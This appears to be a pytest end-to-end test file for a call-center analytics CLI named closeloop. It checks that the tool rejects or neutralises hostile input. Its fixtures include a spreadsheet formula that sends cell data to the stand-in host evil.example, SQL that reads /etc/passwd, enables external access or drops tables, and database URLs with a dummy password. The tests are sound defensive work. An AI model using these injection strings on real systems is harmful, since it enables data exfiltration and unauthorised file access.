"""Issue 13 end to end: the installed command on hostile input, with exit codes and no tracebacks.

Nothing escapes the workspace (secured SQL, owned files, formula cells, passwords), one bad
row cannot take down the analytics, and a busy warehouse is waited for, not failed on.
"""

from __future__ import annotations

import csv
import gzip
import subprocess
import sys
import time
from pathlib import Path

import pytest

EXAMPLES = Path(__file__).resolve().parents[1] / "examples" / "data"


def run(*args: str, cwd: Path, timeout: int = 180) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "closeloop", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=timeout)


def clean(r: subprocess.CompletedProcess[str]) -> bool:
    """No traceback reached the user."""
    return "Traceback" not in r.stderr and "Traceback" not in r.stdout


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace with the examples loaded, plus calls dated 9999, 0001 and 2999 (rejected)."""
    root = tmp_path_factory.mktemp("ws")
    assert run("init", cwd=root).returncode == 0
    for record in ("centers", "agents", "leads", "calls"):
        assert run("ingest", record, str(EXAMPLES / f"{record}.csv"), cwd=root).returncode == 0
    rows = list(csv.DictReader((EXAMPLES / "calls.csv").read_text(encoding="utf-8").splitlines()))
    extreme = []
    for i, stamp in enumerate(["9999-12-31T00:00:00", "0001-01-01T00:00:00", "2999-01-01T00:00:00"]):
        extreme.append({**rows[0], "call_id": f"X{i}", "offered_at": stamp, "answered_at": stamp, "ended_at": stamp,
                        "lead_id": "=HYPERLINK(\"http://evil.example/?\"&A1)"})
    path = root / "extreme.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(extreme)
    r = run("ingest", "calls", str(path), "-o", "csv", cwd=root)
    assert r.returncode == 0 and "3,0,3" in r.stdout.replace(" ", ""), r.stdout + r.stderr
    return root


def test_scorecard_and_report_survive_extreme_dates(ws: Path) -> None:
    for args in (["scorecard"], ["scorecard", "--by", "agent_id"], ["report", "-o", "r.html"]):
        r = run(*args, cwd=ws)
        assert r.returncode == 0 and clean(r), (args, r.stderr[-2000:])
    assert (ws / "r.html").stat().st_size > 10_000


def test_sql_cannot_reach_outside_the_warehouse(ws: Path) -> None:
    settings = (ws / "closeloop.toml").read_text()
    for query in ("COPY calls TO 'closeloop.toml'", "SELECT * FROM read_csv('/etc/passwd')", "INSTALL httpfs",
                  "SET enable_external_access = true", "ATTACH 'other.duckdb'", "DROP TABLE calls"):
        r = run("sql", query, cwd=ws)
        assert r.returncode == 3 and clean(r) and r.stderr.startswith("error:"), (query, r.stderr)
    assert (ws / "closeloop.toml").read_text() == settings and not (ws / "other.duckdb").exists()
    r = run("sql", "SELECT count(*) AS n FROM calls", "-f", "csv", cwd=ws)
    assert r.returncode == 0 and r.stdout.splitlines() == ["n", "8"]
    assert "nothing outside it" in run("sql", "--help", cwd=ws).stdout


def test_outputs_never_overwrite_workspace_files(ws: Path) -> None:
    before = (ws / "warehouse.duckdb").read_bytes()
    for args in (["report", "-o", "warehouse.duckdb"], ["rejects", "--export", "warehouse.duckdb"],
                 ["rejects", "--export", "closeloop.toml"]):
        r = run(*args, cwd=ws)
        assert r.returncode == 2 and clean(r) and "workspace owns" in r.stderr, (args, r.stderr)
    assert (ws / "warehouse.duckdb").read_bytes() == before
    r = run("rejects", "--export", "nodir/x.csv", cwd=ws)
    assert r.returncode == 2 and clean(r) and "does not exist" in r.stderr


def test_rejects_export_escapes_formulas_unless_told(ws: Path) -> None:
    assert run("rejects", "--export", "rejects.csv", cwd=ws).returncode == 0
    text = (ws / "rejects.csv").read_text(encoding="utf-8")
    raws = [r["raw"] for r in csv.DictReader(text.splitlines())]
    assert all(not r.startswith(("=", "+", "-", "@")) for r in raws)
    assert run("rejects", "--export", "raw.csv", "--no-escape-formulas", cwd=ws).returncode == 0
    assert (ws / "raw.csv").read_text(encoding="utf-8") == text  # the raw text starts with the call id, not '='
    from closeloop.outputs import csv_text

    cells = [{"a": "=1+2", "b": "-3", "c": "@x", "d": "+1", "e": 5, "f": "plain"}]
    escaped = csv_text(cells, list(cells[0])).splitlines()[1]
    assert escaped == "'=1+2,'-3,'@x,'+1,5,plain"
    assert csv_text(cells, list(cells[0]), escape_formulas=False).splitlines()[1] == "=1+2,-3,@x,+1,5,plain"


def test_url_passwords_are_masked_in_errors(tmp_path: Path) -> None:
    assert run("init", cwd=tmp_path).returncode == 0
    cfg = tmp_path / "closeloop.toml"
    for url in ("mysql://root:hunter2@db.example/ops", "postgresql+psycopg2://app:hunter2@127.0.0.1:5432/ops",
                "postgresql+psycopg://app:hunter2@127.0.0.1:notaport/ops"):
        cfg.write_text(cfg.read_text().split("[ops]")[0] + f'[ops]\nurl = "{url}"\n')
        r = run("leads", "next", "--campaign", "c", "--agent", "a", cwd=tmp_path)
        assert r.returncode == 2 and clean(r), (url, r.stderr)
        assert "hunter2" not in r.stderr + r.stdout and "***" in r.stderr, r.stderr
    from closeloop.urls import mask_urls

    assert mask_urls("x postgresql+psycopg://u:p@ss@h/db y") == "x postgresql+psycopg://u:***@h/db y"


def test_bad_files_exit_2_with_the_file_named(tmp_path: Path) -> None:
    assert run("init", cwd=tmp_path).returncode == 0
    data = gzip.compress((EXAMPLES / "centers.csv").read_bytes() * 50)
    (tmp_path / "cut.csv.gz").write_bytes(data[: len(data) // 2])
    r = run("ingest", "centers", "cut.csv.gz", cwd=tmp_path)
    assert r.returncode == 2 and clean(r) and "cut.csv.gz" in r.stderr, r.stderr
    (tmp_path / "C1.vtt").write_text("WEBVTT\n\n00:00:00.000 --> 00:00:01.000\n<v Agent>hi\n", encoding="utf-8")
    r = run("ingest", "transcripts", "--format", "webvtt", "--center", "X", "C1.vtt", cwd=tmp_path)
    assert r.returncode == 2 and clean(r) and "--center" in r.stderr, r.stderr


def test_multi_file_ingest_reports_the_files_it_committed(tmp_path: Path) -> None:
    assert run("init", cwd=tmp_path).returncode == 0
    (tmp_path / "broken.parquet").write_text("no parquet here")
    r = run("ingest", "centers", str(EXAMPLES / "centers.csv"), "broken.parquet", "-o", "csv", cwd=tmp_path)
    assert r.returncode == 2 and clean(r)
    assert "centers.csv" in r.stdout and "broken.parquet" in r.stderr and "committed before it" in r.stderr


_HOLD = """
import sys, time, duckdb
con = duckdb.connect(sys.argv[1])
print("holding", flush=True)
time.sleep(float(sys.argv[2]))
con.close()
"""


def test_a_busy_warehouse_is_waited_for_then_named(tmp_path: Path) -> None:
    from closeloop.errors import StorageError
    from closeloop.warehouse import Warehouse

    path = tmp_path / "w.duckdb"
    Warehouse(path).close()
    holder = subprocess.Popen([sys.executable, "-c", _HOLD, str(path), "3"], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "holding"
        with pytest.raises(StorageError, match=rf"pid {holder.pid}.*only one process may write"):
            Warehouse(path, read_only=True, wait_s=0.3, on_wait=lambda _m: None)
        said: list[str] = []
        start = time.monotonic()
        with Warehouse(path, wait_s=60, on_wait=said.append) as wh:  # the second writer waits its turn
            assert wh.count("calls") == 0
        assert time.monotonic() - start < 30
        assert len(said) == 1 and f"pid {holder.pid}" in said[0] and "waiting" in said[0]
    finally:
        holder.wait(timeout=30)
        if holder.stdout is not None:
            holder.stdout.close()


def test_a_load_compacts_only_when_much_space_is_free() -> None:
    from closeloop.warehouse import worth_compacting

    mib = 1 << 20
    assert not worth_compacting({"free": 10 * mib, "used": 1 * mib, "file": 11 * mib, "blocks": 44})
    assert not worth_compacting({"free": 100 * mib, "used": 500 * mib, "file": 600 * mib, "blocks": 2400})
    assert worth_compacting({"free": 460 * mib, "used": 23 * mib, "file": 483 * mib, "blocks": 1932})


def test_vacuum_gives_back_free_space_and_status_shows_size(tmp_path: Path) -> None:
    from closeloop.warehouse import Warehouse

    assert run("init", cwd=tmp_path).returncode == 0
    with Warehouse(tmp_path / "warehouse.duckdb") as wh:  # what a killed load leaves: freed blocks
        wh.con.execute("CREATE TABLE __stage AS SELECT md5(range::VARCHAR) AS b FROM range(1000000)")
        wh.con.execute("CHECKPOINT")
        wh.con.execute("CREATE TABLE later AS SELECT md5(range::VARCHAR) AS b FROM range(20000)")  # after it
        wh.con.execute("CHECKPOINT")
        wh.con.execute("DROP TABLE __stage")
        wh.con.execute("CHECKPOINT")
    before = (tmp_path / "warehouse.duckdb").stat().st_size
    r = run("status", cwd=tmp_path)
    assert r.returncode == 0 and "MiB on disk" in r.stderr and "closeloop vacuum" in r.stderr
    r = run("vacuum", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    after = (tmp_path / "warehouse.duckdb").stat().st_size
    assert after < before / 4
    assert run("sql", "SELECT count(*) FROM later", "-f", "csv", cwd=tmp_path).stdout.split() == ["count_star()",
                                                                                               "20000"]
    assert run("ingest", "centers", str(EXAMPLES / "centers.csv"), cwd=tmp_path).returncode == 0


def test_analytics_survive_extreme_dates_already_in_the_warehouse(ws: Path, tmp_path: Path) -> None:
    """Rows written before the window existed (or by another tool) must not crash the analytics."""
    import shutil

    import duckdb

    copy = tmp_path / "ws"
    shutil.copytree(ws, copy)
    con = duckdb.connect(str(copy / "warehouse.duckdb"))
    con.execute("""
        INSERT INTO calls (call_id, center_id, queue, direction, call_type, offered_at, answered_at, ended_at,
                           agent_id, outcome)
        SELECT 'X' || i, 'AUS', 'sales_inbound', 'inbound', 'sales', t, t, t, 'A001', 'sale'
        FROM (VALUES (1, TIMESTAMPTZ '9999-12-31 00:00:00+00'), (2, TIMESTAMPTZ '0001-01-01 00:00:00+00'),
                     (3, TIMESTAMPTZ '2999-01-01 00:00:00+00')) AS v(i, t)""")
    con.close()
    for args in (["scorecard"], ["report", "-o", "r.html"]):
        r = run(*args, cwd=copy)
        assert r.returncode == 0 and clean(r), (args, r.stderr[-2000:])
